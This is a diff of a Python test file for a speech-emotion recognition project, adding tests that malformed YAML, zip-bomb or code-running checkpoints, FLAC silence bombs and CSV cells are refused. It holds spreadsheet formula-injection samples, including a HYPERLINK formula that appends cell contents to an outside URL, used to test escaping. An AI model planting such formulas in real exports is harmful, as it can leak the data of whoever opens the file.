@@ -14,13 +14,14 @@ import time
 import warnings
 import zipfile
 from collections.abc import Callable
+from contextlib import nullcontext
 from pathlib import Path
 
 import numpy as np
 import pytest
 import soundfile
 import torch
-from conftest import speech_like, tiny_config, tiny_settings, tiny_tensors, write_tiny_checkpoint
+from conftest import TINY, speech_like, tiny_config, tiny_settings, tiny_tensors, write_tiny_checkpoint
 from safetensors.torch import load_file, save_file
 
 import adapter
@@ -29,11 +30,12 @@ import check
 import corpora
 import data
 import predict
+import results
 import run
 import train
 import weights
 from config import Config, load_config
-from manifest import text_cell
+from manifest import from_cell, text_cell
 from model import Wav2Vec2
 
 HANG = 20  # seconds: far beyond any of these small files
@@ -241,17 +243,18 @@ def config_reader(folder: Path) -> Reader:
     return [folder / "c.yaml"], read
 
 
-def assert_backbone(backbone: Wav2Vec2) -> None:
+def use_backbone(backbone: Wav2Vec2, source: Path) -> None:
+    """As a run does: not before its weights were looked at, of which `load_backbone` reads none."""
+    weights.require_finite(dict(backbone.named_parameters()), source)
     with torch.no_grad():
         states = backbone.hidden_states([speech_like(800)])
     assert len(states) == backbone.config.layers + 1
-    assert all(parameter.isfinite().all() for parameter in backbone.parameters())
 
 
 def safetensors_reader(folder: Path) -> Reader:
     write_tiny_checkpoint(folder)
     files = [folder / name for name in ("model.safetensors", "config.json", "preprocessor_config.json")]
-    return files, lambda _: assert_backbone(weights.load_backbone(folder))
+    return files, lambda _: use_backbone(weights.load_backbone(folder), folder)
 
 
 def pickle_reader(folder: Path) -> Reader:
@@ -259,7 +262,7 @@ def pickle_reader(folder: Path) -> Reader:
     torch.save({"model": tiny_tensors(), "cfg": settings}, folder / "a.pt")
     torch.save(tiny_tensors(), folder / "pytorch_model.bin")
     files = [folder / "a.pt", folder / "pytorch_model.bin"]
-    return files, lambda file: assert_backbone(weights.load_backbone(file))
+    return files, lambda file: use_backbone(weights.load_backbone(file), file)
 
 
 def index_reader(folder: Path) -> Reader:
@@ -267,7 +270,27 @@ def index_reader(folder: Path) -> Reader:
     save_file(tensors, folder / "model-1.safetensors")
     names = {"weight_map": dict.fromkeys(tensors, "model-1.safetensors")}
     (folder / "model.safetensors.index.json").write_text(json.dumps(names), "utf-8")
-    return [folder / "model.safetensors.index.json"], lambda _: assert_backbone(weights.load_backbone(folder))
+    return [folder / "model.safetensors.index.json"], lambda _: use_backbone(weights.load_backbone(folder), folder)
+
+
+def emotion_reader(folder: Path) -> Reader:
+    """A published emotion model, its head in a pickle."""
+    width = TINY["hidden_size"]
+    shapes = {
+        "dense.weight": (width, width),
+        "dense.bias": (width,),
+        "out_proj.weight": (3, width),
+        "out_proj.bias": (3,),
+    }
+    head = {f"classifier.{name}": 0.1 * torch.ones(shape) for name, shape in shapes.items()}
+    torch.save({f"wav2vec2.{key}": value for key, value in tiny_tensors().items()} | head, folder / "pytorch_model.bin")
+    labels = {"id2label": {"0": "arousal", "1": "dominance", "2": "valence"}, "pooling_mode": "mean"}
+    (folder / "config.json").write_text(json.dumps(tiny_config() | labels), "utf-8")
+
+    def read(_: Path) -> None:
+        assert set(run.load_run(folder).predict(speech_like(800), 16_000)) == {"activation", "dominance", "valence"}
+
+    return [folder / "pytorch_model.bin", folder / "config.json"], read
 
 
 def adapter_reader(folder: Path) -> Reader:
@@ -280,7 +303,7 @@ def adapter_reader(folder: Path) -> Reader:
     def read(_: Path) -> None:
         backbone = weights.load_backbone(folder)
         adapter.merge_adapter(backbone, folder / "peft", "a/b")
-        assert_backbone(backbone)
+        use_backbone(backbone, folder)
 
     return [folder / "peft" / name for name in adapter.FILES], read
 
@@ -332,7 +355,7 @@ def cache_reader(folder: Path) -> Reader:
 
 
 READERS = [audio_reader, manifest_reader, podcast_reader, iemocap_reader, improv_reader, muse_reader, config_reader]
-READERS += [safetensors_reader, pickle_reader, index_reader, adapter_reader, run_reader, cache_reader]
+READERS += [safetensors_reader, pickle_reader, index_reader, emotion_reader, adapter_reader, run_reader, cache_reader]
 
 
 @pytest.mark.parametrize("make", READERS, ids=lambda make: make.__name__)
@@ -358,6 +381,8 @@ MERGES = "\n".join(
         (LAUGHS + "\ntargets: *x29", "no alias"),
         (MERGES, "no alias"),
         ("targets: " + "[" * 100_000, "at most 10 levels"),
+        ("seed: 1\nlr: 1\nseed: 2", "seed is given more than once"),
+        ("# " * 600_000, "has 1,200,000 bytes"),
         ("seed: !!int ''", "is not YAML"),
         ("seed: !!bool x", "is not YAML"),
         ("seed: !!timestamp x", "is not YAML"),
@@ -367,16 +392,26 @@ MERGES = "\n".join(
 def test_yaml_that_fills_memory_runs_code_or_breaks_its_reader_is_refused(tmp_path, monkeypatch, text, message):
     monkeypatch.chdir(tmp_path)
     (tmp_path / "a.yaml").write_text(text, "utf-8")
-    with pytest.raises(ValueError, match=rf"a\.yaml: is not YAML .*{message}|a\.yaml: {message}"):
+    with pytest.raises(ValueError, match=rf"a\.yaml: (is not YAML .*)?{message}"):
         load_config(tmp_path / "a.yaml")
     assert not Path("executed").exists()
 
 
+@pytest.mark.parametrize("key", ["seed", "lora_rank", "head_width"])
+def test_a_number_that_would_fill_the_memory_is_refused(tmp_path, key):
+    (tmp_path / "a.yaml").write_text(f"{key}: 1{'0' * 4000}", "utf-8")
+    with pytest.raises(ValueError, match=rf"a\.yaml: {key}: expected (below|at most)"):
+        load_config(tmp_path / "a.yaml")
+
+
 @pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
-def test_audio_that_is_a_pipe_does_not_wait_for_a_writer(tmp_path):
+def test_audio_that_is_a_pipe_or_a_link_to_itself_is_refused(tmp_path):
+    """No writer is waited for."""
     os.mkfifo(tmp_path / "a.wav")
-    with pytest.raises(ValueError, match=r"a\.wav: is no file but a pipe"):
-        data.read_audio(tmp_path / "a.wav")
+    os.symlink("b.wav", tmp_path / "b.wav")
+    for name, message in (("a", "is no file but a pipe"), ("b", "cannot be read: ")):
+        with pytest.raises(ValueError, match=rf"{name}\.wav: {message}"):
+            data.read_audio(tmp_path / f"{name}.wav")
 
 
 @pytest.mark.parametrize("rate", [1, 999])
@@ -386,14 +421,14 @@ def test_a_rate_that_would_make_hours_of_a_second_is_refused(tmp_path, rate):
         data.read_audio(tmp_path / "a.wav")
 
 
-def test_silence_packed_to_fill_the_memory_is_refused_before_it_is_decoded(tmp_path, monkeypatch):
-    """FLAC keeps a block of one value in a few bytes."""
-    soundfile.write(tmp_path / "a.flac", np.zeros(2_000_000), 16_000)
-    assert (tmp_path / "a.flac").stat().st_size < 20_000
-    monkeypatch.setattr(data, "MAX_SAMPLES", 1_999_999)
-    monkeypatch.setattr(data, "_decode", None)
-    with pytest.raises(ValueError, match=r"a\.flac: its header declares 2000000 samples"):
-        data.read_audio(tmp_path / "a.flac")
+@pytest.mark.parametrize(("name", "rate"), [("a.flac", 16_000), ("a.flac", 8_000), ("a.wav", 16_000)])
+def test_silence_packed_to_fill_the_memory_is_not_decoded_to_its_end(tmp_path, monkeypatch, name, rate):
+    """FLAC keeps a block of one value in a few bytes. The limit counts at 16 kHz too, and for what is not decoded."""
+    soundfile.write(tmp_path / name, np.zeros(2_000_000), rate)
+    monkeypatch.setattr(data, "MAX_SAMPLES", 2_000_000 * 16_000 // rate - 1)
+    for read in (data.read_audio, lambda path: data.check_audio([data.Utterance(str(path), "", "", {})])):
+        with pytest.raises(ValueError, match=rf"{name}: is longer than "):
+            read(tmp_path / name)
 
 
 def test_many_channels_are_decoded_in_blocks_of_the_same_size(tmp_path, monkeypatch):
@@ -431,7 +466,7 @@ NOT_PLAIN = {
     "complex": (lambda x: x.to(torch.complex64), "expected floating point"),
     "sparse": (lambda x: x.to_sparse(), "is no plain tensor"),
     "meta": (lambda x: x.to("meta"), "expected floating point on the CPU"),
-    "huge": (lambda _: torch.zeros(1).expand(10**12), "more numbers than the file holds"),
+    "huge": (lambda _: torch.zeros(1).expand(10**12), "declares 4,000,[0-9,]+ bytes of tensors, but has only"),
     "NaN": (lambda x: x / 0 * 0, "NaN or infinite values in norm.bias"),
     "infinite": (lambda x: x / 0, "NaN or infinite values in norm.bias"),
 }
@@ -442,7 +477,7 @@ def test_a_tensor_that_is_no_plain_finite_numbers_is_refused(tmp_path, kind):
     change, message = NOT_PLAIN[kind]
     torch.save(changed(value=change), tmp_path / "a.pt")
     with pytest.raises(ValueError, match=rf"a\.pt: .*{message}"):
-        weights.load_backbone(tmp_path / "a.pt")
+        use_backbone(weights.load_backbone(tmp_path / "a.pt"), tmp_path / "a.pt")
 
 
 def test_tensors_that_share_memory_or_lie_across_it_are_read_as_what_they_are(tmp_path):
@@ -460,7 +495,7 @@ def test_tensors_that_share_memory_or_lie_across_it_are_read_as_what_they_are(tm
 @pytest.mark.parametrize("settings", [cyclic(), {"model": {"activation_fn": laughing(), "x": laughing()}}])
 def test_settings_that_hold_themselves_or_unfold_without_end_are_read(tmp_path, settings):
     torch.save({"model": tiny_tensors(), "cfg": settings}, tmp_path / "a.pt")
-    assert_backbone(weights.load_backbone(tmp_path / "a.pt"))
+    use_backbone(weights.load_backbone(tmp_path / "a.pt"), tmp_path / "a.pt")
 
 
 def compress(path: Path) -> None:
@@ -485,8 +520,11 @@ def test_a_checkpoint_that_runs_code_or_is_a_zip_bomb_is_refused(tmp_path, monke
     torch.save({"model": torch.zeros(10_000_000)}, "c.pt")
     compress(Path("c.pt"))
     assert Path("c.pt").stat().st_size < 100_000
-    with pytest.raises(ValueError, match=r"c\.pt: is a zip file with compressed members"):
+    with pytest.raises(ValueError, match=r"c\.pt: is not a whole .* \(it has compressed members\)"):
         load(Path("c.pt"))
+    torch.save({"model": bytearray(10)}, "d.pt")  # in a pickle its size alone could stand
+    with pytest.raises(ValueError, match=r"d\.pt: is not a whole .* \(it holds more than tensors and plain values\)"):
+        load(Path("d.pt"))
 
 
 @pytest.mark.parametrize(
@@ -507,7 +545,7 @@ def test_a_layer_of_a_number_without_end_is_refused_before_it_is_made(tmp_path):
     tensors = tiny_tensors()
     tensors["encoder.layers.999999999.fc1.bias"] = torch.zeros(1)
     save_file(tensors, tmp_path / "model.safetensors")
-    with pytest.raises(ValueError, match=r"model\.safetensors: holds 4 layers up to number 999999999, expected 4"):
+    with pytest.raises(ValueError, match=r"model\.safetensors: has 1000000000 layers, expected at most 1000"):
         weights.load_backbone(tmp_path)
 
 
@@ -537,7 +575,8 @@ def test_an_adapter_that_is_no_plain_finite_numbers_is_refused(tmp_path, change,
 @pytest.mark.parametrize(
     "change",
     [{"config": None}, {"config": {"seed": []}}, {"label_range": [7, 1]}, {"label_range": "ab"}, {"backbone": {}},
-     {"trained": [1]}, {"trained": {1: torch.zeros(1)}}, {"trained": {}}, {"trained": {"a": 5}}],
+     {"trained": [1]}, {"trained": {1: torch.zeros(1)}}, {"trained": {}}, {"trained": {"a": 5}},
+     {"config": {"seed": laughing()}}, {"config": {"head_width": 10**9}}],
 )  # fmt: skip
 def test_a_checkpoint_of_a_run_that_holds_something_else_is_named(tmp_path, change):
     (best,), read = run_reader(tmp_path)
@@ -572,30 +611,63 @@ def test_a_cache_that_does_not_tell_what_it_holds_is_not_verified(tmp_path, text
 
 
 FORMULA = '=HYPERLINK("http://a.b"&A1)'
+NAMES = [FORMULA, "@a", "+1", "-x", "\t=1", "\uff1d1", "'=1", "''-", "'a", "b=1", ""]
+
+
+@pytest.mark.parametrize("name", NAMES)
+def test_a_name_in_a_table_is_no_formula_and_can_be_had_back(name):
+    assert not text_cell(name).startswith(tuple("=+-@\t\r\n\uff1d"))
+    assert from_cell(text_cell(name)) == name
+    assert (text_cell(name) == name) == (name in ("'a", "b=1", ""))
 
 
 def test_no_name_becomes_a_formula_in_a_table_and_numbers_stay_numbers(tmp_path):
-    """An apostrophe before names of files and speakers that a spreadsheet would run, and before nothing else."""
-    utterances = [data.Utterance(name, "test", name, {"valence": -1.5}) for name in (FORMULA, "@a", "+1", "-x", "b")]
-    train.write_predictions(tmp_path / "p.csv", ["valence"], utterances, np.full((5, 1), -0.25))
-    stream = io.StringIO()
-    predict.row_writer(stream, "csv", ["valence"])([{"file": FORMULA, "start": 0.0, "end": 1.0, "valence": -0.5}])
-    (tmp_path / "q.csv").write_text(stream.getvalue(), "utf-8")
-    (tmp_path / "r.csv").write_text(check.problems_csv([data.Problem("silent", FORMULA, "-x")]), "utf-8")
-    (tmp_path / "s.csv").write_text(check.speakers_csv(utterances, [1.0] * 5), "utf-8")
-    cells = []
-    for path in sorted(tmp_path.glob("*.csv")):
-        with open(path, newline="", encoding="utf-8") as file:
-            cells += [cell for row in csv.reader(file) for cell in row]
-    assert f"'{FORMULA}" in cells and "b" in cells
-    assert [cell for cell in cells if cell[:1] in "=+-@" and cell] == [*["-0.2500", "-1.5"] * 5, "-0.5"]
+    """In every table with names of others; our reader of predictions gives the names back. JSON lines keep them."""
+    utterances = [data.Utterance(name, "test", name, {"valence": -1.5}) for name in NAMES]
+    train.write_predictions(tmp_path / "predictions_test.csv", ["valence"], utterances, np.full((len(NAMES), 1), -0.25))
+    (tmp_path / "result.json").write_text('{"config": {"targets": ["valence"]}}', "utf-8")
+    (tmp_path / "log.jsonl").write_text("{}\n", "utf-8")
+    assert results.read_run(tmp_path).speakers == NAMES
+    row = {"file": FORMULA, "start": 0.0, "end": 1.0, "valence": -0.5}
+    table, lines = io.StringIO(), io.StringIO()
+    predict.row_writer(table, "csv", ["valence"])([row])
+    predict.row_writer(lines, "jsonl", ["valence"])([row])
+    assert json.loads(lines.getvalue()) == row
+    problems = check.problems_csv([data.Problem("silent", FORMULA, "-x")])
+    texts = [table.getvalue(), problems, check.speakers_csv(utterances, [1.0] * len(NAMES))]
+    texts.append((tmp_path / "predictions_test.csv").read_text("utf-8"))
+    cells = [cell for text in texts for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    assert cells.count(f"'{FORMULA}") == 5
+    assert [cell for cell in cells if cell[:1] in "=+-@" and cell] == ["-0.5", *["-0.2500", "-1.5"] * len(NAMES)]
 
 
-def test_json_lines_keep_every_name_as_it_is():
-    stream = io.StringIO()
-    predict.row_writer(stream, "jsonl", ["valence"])([{"file": FORMULA, "valence": -0.5}])
-    assert json.loads(stream.getvalue())["file"] == FORMULA
-    assert text_cell("a=b") == "a=b"
+def test_predictions_of_a_file_whose_name_is_not_utf8_are_written(tmp_path):
+    utterances = [data.Utterance("\udcff.wav", "test", "s", {"valence": 1.0})]
+    train.write_predictions(tmp_path / "p.csv", ["valence"], utterances, np.zeros((1, 1)))
+    assert "\\udcff.wav,s" in (tmp_path / "p.csv").read_text("utf-8")
+
+
+@pytest.mark.parametrize(
+    ("row", "message"),
+    [
+        (f"a.wav,train,{'s' * 10_000_000},1,1", "is not a CSV file: field larger"),
+        ('"a.wav,train,s,1,1\nb.wav,train,s,1,1', "1 cells, expected 5"),
+        ("a.wav,train,s,1,1,2", "6 cells, expected 5"),
+    ],
+)
+def test_a_manifest_with_a_cell_that_does_not_end_is_refused(tmp_path, row, message):
+    (tmp_path / "m.csv").write_text(f"path,split,speaker,activation,valence\n{row}\n", "utf-8")
+    with pytest.raises(ValueError, match=rf"m\.csv: (?s:.*){message}"):
+        data.read_manifest(tmp_path / "m.csv")
+
+
+def test_a_column_that_is_there_twice_is_refused_unless_it_is_ignored(tmp_path):
+    for column, message in (("note", None), ("valence", "column valence is there more than once")):
+        (tmp_path / "m.csv").write_text(
+            f"path,split,speaker,activation,valence,note,{column}\na,train,s,1,1,,\n", "utf-8"
+        )
+        with pytest.raises(ValueError, match=message) if message else nullcontext():
+            data.read_manifest(tmp_path / "m.csv")
 
 
 def test_a_manifest_may_name_files_outside_its_folder(tmp_path):
